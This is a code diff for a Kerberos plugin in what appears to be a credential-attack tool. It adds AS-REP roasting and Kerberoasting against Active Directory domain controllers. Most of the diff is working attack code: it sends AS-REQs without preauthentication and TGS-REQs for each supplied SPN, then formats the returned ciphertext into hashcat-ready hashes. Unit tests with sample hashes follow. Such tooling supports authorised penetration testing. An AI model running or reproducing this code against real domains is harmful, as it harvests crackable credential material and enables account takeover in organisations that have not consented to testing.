@@ -1,16 +1,17 @@
 use std::net::{SocketAddr, ToSocketAddrs};
-use std::sync::{Arc, RwLock};
 use std::time::Duration;
 
-use ahash::HashSet;
 use async_trait::async_trait;
-use kerberos_asn1::{AsRep, Asn1Object, KrbError};
-use kerberos_constants::error_codes;
+use kerberos_asn1::{AsRep, Asn1Object, EncAsRepPart, EncTgsRepPart, KrbError, TgsRep};
+use kerberos_constants::{error_codes, etypes, key_usages::KEY_USAGE_AS_REP_ENC_PART};
 
 use crate::session::{Error, Loot};
+use crate::utils::once::OncePerTarget;
 use crate::Options;
 use crate::Plugin;
 
+use super::plugin::PayloadStrategy;
+
 use crate::creds::Credentials;
 use crate::utils;
 use transport::Protocol;
@@ -29,7 +30,9 @@ pub(crate) struct Kerberos {
     realm: String,
     proto: Protocol,
     linux: bool,
-    invalid_users: Arc<RwLock<HashSet<String>>>,
+    asreproast: bool,
+    spns: Vec<String>,
+    invalid_users: OncePerTarget,
 }
 
 impl Kerberos {
@@ -38,7 +41,9 @@ impl Kerberos {
             realm: String::new(),
             proto: Protocol::default(),
             linux: false,
-            invalid_users: Arc::new(RwLock::new(HashSet::default())),
+            asreproast: false,
+            spns: vec![],
+            invalid_users: OncePerTarget::new(),
         }
     }
 
@@ -109,32 +114,187 @@ impl Kerberos {
         server: &SocketAddr,
         raw: &[u8],
         creds: &Credentials,
+        timeout: Duration,
     ) -> (bool, Option<Vec<Loot>>) {
-        if AsRep::parse(raw).is_ok() {
-            return (
-                true,
-                Some(vec![Loot::new(
+        if let Ok((_, as_rep)) = AsRep::parse(raw) {
+            let mut loot = vec![Loot::new(
+                "kerberos",
+                &server.to_string(),
+                [
+                    ("username".to_owned(), creds.username.to_owned()),
+                    ("password".to_owned(), creds.password.to_owned()),
+                    // ("ticket".to_owned(), format!("{:?}", &as_rep.ticket)),
+                ],
+            )];
+
+            if !self.spns.is_empty() {
+                match self.kerberoast(server, &as_rep, creds, timeout) {
+                    Ok(hashes) => loot.extend(hashes),
+                    Err(e) => log::error!("kerberoasting with {} failed: {}", &creds.username, e),
+                }
+            }
+
+            return (true, Some(loot));
+        }
+
+        (false, None)
+    }
+
+    // use the TGT from the AS-REP to request a service ticket for each SPN
+    fn kerberoast(
+        &self,
+        server: &SocketAddr,
+        as_rep: &AsRep,
+        creds: &Credentials,
+        timeout: Duration,
+    ) -> Result<Vec<Loot>, Error> {
+        let cipher = kerberos_crypto::new_kerberos_cipher(as_rep.enc_part.etype)
+            .map_err(|e| format!("{:?}", e))?;
+        let key = builder::user_key(&self.realm, creds, self.linux);
+        let raw = cipher
+            .decrypt(&key, KEY_USAGE_AS_REP_ENC_PART, &as_rep.enc_part.cipher)
+            .map_err(|e| format!("can't decrypt AS-REP: {:?}", e))?;
+        // some implementations (Windows) use the EncTgsRepPart tag for the AS-REP too
+        let session_key = if let Ok((_, part)) = EncAsRepPart::parse(&raw) {
+            part.key
+        } else if let Ok((_, part)) = EncTgsRepPart::parse(&raw) {
+            part.key
+        } else {
+            return Err("can't parse AS-REP encrypted part".to_owned());
+        };
+
+        let mut loot = vec![];
+        for spn in &self.spns {
+            let req = builder::create_tgs_req(
+                &self.realm,
+                &creds.username,
+                &as_rep.ticket,
+                &session_key,
+                spn,
+            )?;
+            let transport = transport::get(&self.proto, *server);
+            let raw_resp = transport
+                .request(timeout, &req.build())
+                .map_err(|e| e.to_string())?;
+
+            if let Ok((_, tgs_rep)) = TgsRep::parse(&raw_resp) {
+                loot.push(Loot::new(
                     "kerberos",
                     &server.to_string(),
                     [
                         ("username".to_owned(), creds.username.to_owned()),
-                        ("password".to_owned(), creds.password.to_owned()),
-                        // ("ticket".to_owned(), format!("{:?}", &as_rep.ticket)),
+                        ("spn".to_owned(), spn.to_owned()),
+                        (
+                            "hash".to_owned(),
+                            tgs_hash(
+                                spn,
+                                &self.realm,
+                                tgs_rep.ticket.enc_part.etype,
+                                &tgs_rep.ticket.enc_part.cipher,
+                            ),
+                        ),
                     ],
-                )]),
+                ));
+            } else if let Ok((_, krb_error)) = KrbError::parse(&raw_resp) {
+                log::warn!(
+                    "can't get a service ticket for {}: {}",
+                    spn,
+                    error_codes::error_code_to_string(krb_error.error_code)
+                );
+            } else {
+                log::error!("unexpected response to TGS-REQ {:?}", raw_resp);
+            }
+        }
+
+        Ok(loot)
+    }
+
+    async fn roast(
+        &self,
+        server: &SocketAddr,
+        creds: &Credentials,
+        timeout: Duration,
+    ) -> Result<Option<Vec<Loot>>, Error> {
+        let username = creds.single();
+        let req = builder::create_as_req_without_preauth(&self.realm, username);
+        let transport = transport::get(&self.proto, *server);
+        let raw_resp = transport
+            .request(timeout, &req.build())
+            .map_err(|e| e.to_string())?;
+
+        if let Ok((_, as_rep)) = AsRep::parse(&raw_resp) {
+            // no pre authentication required
+            if as_rep.enc_part.etype != etypes::RC4_HMAC {
+                return Err(format!(
+                    "unsupported AS-REP encryption type {} for {}",
+                    as_rep.enc_part.etype, username
+                ));
+            }
+
+            return Ok(Some(vec![Loot::new(
+                "kerberos",
+                &server.to_string(),
+                [
+                    ("username".to_owned(), username.to_owned()),
+                    (
+                        "hash".to_owned(),
+                        as_rep_hash(username, &self.realm, &as_rep.enc_part.cipher),
+                    ),
+                ],
+            )]));
+        }
+
+        if let Ok((_, krb_error)) = KrbError::parse(&raw_resp) {
+            if krb_error.error_code == error_codes::KDC_ERR_PREAUTH_REQUIRED {
+                // valid username, but not roastable
+                return Ok(Some(vec![Loot::new(
+                    "kerberos",
+                    &server.to_string(),
+                    [("username".to_owned(), username.to_owned())],
+                )
+                .set_partial()]));
+            }
+
+            log::debug!(
+                "{}: {}",
+                username,
+                error_codes::error_code_to_string(krb_error.error_code)
             );
+            return Ok(None);
         }
 
-        (false, None)
+        log::error!("unexpected response to AS-REQ {:?}", raw_resp);
+
+        Ok(None)
     }
 }
 
+// hashcat mode 18200 format: the first 16 bytes of the cipher are the checksum
+fn as_rep_hash(username: &str, realm: &str, cipher: &[u8]) -> String {
+    let (checksum, data) = cipher.split_at(16.min(cipher.len()));
+    format!(
+        "$krb5asrep$23${}@{}:{}${}",
+        username,
+        realm,
+        hex::encode(checksum),
+        hex::encode(data)
+    )
+}
+
 #[async_trait]
 impl Plugin for Kerberos {
     fn description(&self) -> &'static str {
         "Kerberos 5 (pre)authentication and users enumeration."
     }
 
+    fn payload_strategy(&self) -> PayloadStrategy {
+        if self.asreproast {
+            PayloadStrategy::Single
+        } else {
+            PayloadStrategy::UsernamePassword
+        }
+    }
+
     fn setup(&mut self, opts: &Options) -> Result<(), Error> {
         self.realm = if let Some(realm) = &opts.kerberos.kerberos_realm {
             realm.clone()
@@ -143,6 +303,22 @@ impl Plugin for Kerberos {
         };
         self.linux = opts.kerberos.kerberos_linux;
         self.proto = opts.kerberos.kerberos_protocol.clone();
+        self.asreproast = opts.kerberos.kerberos_asreproast;
+        if let Some(spns) = &opts.kerberos.kerberos_spns {
+            self.spns = if let Some(path) = spns.strip_prefix('@') {
+                std::fs::read_to_string(path)
+                    .map_err(|e| format!("can't read {}: {}", path, e))?
+                    .lines()
+                    .map(|l| l.trim().to_owned())
+                    .filter(|l| !l.is_empty())
+                    .collect()
+            } else {
+                spns.split(',')
+                    .map(|s| s.trim().to_owned())
+                    .filter(|s| !s.is_empty())
+                    .collect()
+            };
+        }
         Ok(())
     }
 
@@ -152,18 +328,22 @@ impl Plugin for Kerberos {
         timeout: Duration,
     ) -> Result<Option<Vec<Loot>>, Error> {
         // make sure we don't iterate over users that have been flagged as invalid
-        if self.invalid_users.read().unwrap().contains(&creds.username) {
+        if self.invalid_users.contains(&creds.username) {
             return Ok(None);
         }
 
         let address = utils::parse_target_address(&creds.target, 88)?;
-        let server = address
+        let server = utils::resolver::resolve_address(&address)
             .to_socket_addrs()
             .map_err(|e| e.to_string())?
             .next()
             .ok_or("could not convert target address to socket address".to_owned())
             .map_err(|e| e.to_string())?;
 
+        if self.asreproast {
+            return self.roast(&server, creds, timeout).await;
+        }
+
         // create an AS-REQ message to get an AS-REP response
         let req = builder::create_as_req(&self.realm, creds, self.linux);
 
@@ -178,16 +358,13 @@ impl Plugin for Kerberos {
         if is_error {
             // if this username is not valid, just mark for skipping
             if !is_valid_user {
-                self.invalid_users
-                    .write()
-                    .unwrap()
-                    .insert(creds.username.to_owned());
+                self.invalid_users.insert(&creds.username);
             }
             return Ok(loot);
         }
 
         // did we get an AS-REP?
-        let (is_as_rep, loot) = self.handle_as_rep(&server, &raw_resp, creds);
+        let (is_as_rep, loot) = self.handle_as_rep(&server, &raw_resp, creds, timeout);
         if is_as_rep {
             return Ok(loot);
         }
@@ -198,3 +375,62 @@ impl Plugin for Kerberos {
         Ok(None)
     }
 }
+
+// hashcat mode 13100 format for RC4 tickets, 19600/19700 for AES ones where the checksum is
+// the last 12 bytes of the cipher
+fn tgs_hash(spn: &str, realm: &str, etype: i32, cipher: &[u8]) -> String {
+    // the account name is not known, hashcat only needs it as a label
+    let user = spn.split('/').nth(1).unwrap_or(spn).split(':').next().unwrap();
+    let spn = spn.replace(':', "~");
+    if etype == etypes::RC4_HMAC {
+        let (checksum, data) = cipher.split_at(16.min(cipher.len()));
+        format!(
+            "$krb5tgs$23$*{}${}${}*${}${}",
+            user,
+            realm,
+            spn,
+            hex::encode(checksum),
+            hex::encode(data)
+        )
+    } else {
+        let (data, checksum) = cipher.split_at(cipher.len().saturating_sub(12));
+        format!(
+            "$krb5tgs${}${}${}$*{}*${}${}",
+            etype,
+            user,
+            realm,
+            spn,
+            hex::encode(checksum),
+            hex::encode(data)
+        )
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{as_rep_hash, tgs_hash};
+
+    #[test]
+    fn can_format_as_rep_hash() {
+        let mut cipher = vec![0xaa; 16];
+        cipher.extend([0x01, 0x02, 0x03]);
+        assert_eq!(
+            as_rep_hash("jdoe", "CORP.LOCAL", &cipher),
+            "$krb5asrep$23$jdoe@CORP.LOCAL:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa$010203"
+        );
+    }
+
+    #[test]
+    fn can_format_tgs_hash() {
+        let mut cipher = vec![0xaa; 16];
+        cipher.extend([0x01, 0x02, 0x03]);
+        assert_eq!(
+            tgs_hash("MSSQLSvc/db01.corp.local:1433", "CORP.LOCAL", 23, &cipher),
+            "$krb5tgs$23$*db01.corp.local$CORP.LOCAL$MSSQLSvc/db01.corp.local~1433*$aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa$010203"
+        );
+        assert_eq!(
+            tgs_hash("HTTP/web", "CORP.LOCAL", 18, &cipher),
+            "$krb5tgs$18$web$CORP.LOCAL$*HTTP/web*$aaaaaaaaaaaaaaaaaa010203$aaaaaaaaaaaaaa"
+        );
+    }
+}